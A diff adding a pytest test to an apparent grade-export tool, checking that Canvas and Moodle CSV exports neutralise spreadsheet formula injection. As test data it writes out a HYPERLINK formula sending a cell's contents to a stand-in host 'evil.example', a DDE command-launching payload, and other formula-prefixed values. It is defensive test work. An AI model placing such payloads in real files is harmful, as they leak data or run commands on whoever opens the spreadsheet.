@@ -9,7 +9,7 @@ from datetime import datetime
 from pathlib import Path
 
 import pytest
-from nbgrader.api import Gradebook
+from nbgrader.api import Gradebook, Student
 
 from slopewise.environment import put_tools_on_path
 
@@ -102,3 +102,21 @@ def test_an_empty_gradebook_gives_a_header(tmp_path: Path) -> None:
     Gradebook(url, "slopewise").close()
     rows = export(url, "MoodleExportPlugin", tmp_path)
     assert rows == [["Username", "ID number", "Email address", "First name", "Last name"]]
+
+
+@pytest.mark.parametrize("plugin", ["CanvasExportPlugin", "MoodleExportPlugin"])
+def test_no_cell_is_a_formula(gradebook_url: str, tmp_path: Path, plugin: str) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with Gradebook(gradebook_url, "slopewise") as gradebook:
+        for student, last in (("mal", evil), ("wide", "\uff1d1+1"), ("late", " @SUM(1)")):
+            gradebook.add_student(student, last_name=last, lms_user_id="-2+3", email="+49@e.org")
+        # As an older edition let it in: past every rule for ids.
+        gradebook.db.execute(
+            Student.__table__.insert().values(id="=cmd|' /C calc'!A0", first_name="-1")
+        )
+        gradebook.db.commit()
+    rows = export(gradebook_url, plugin, tmp_path)
+    assert len(rows) >= 8
+    cells = [cell for row in rows for cell in row]
+    assert f"'{evil}" in cells
+    assert not [one for one in cells if one.lstrip().startswith(("=", "+", "-", "@", "\uff1d"))]
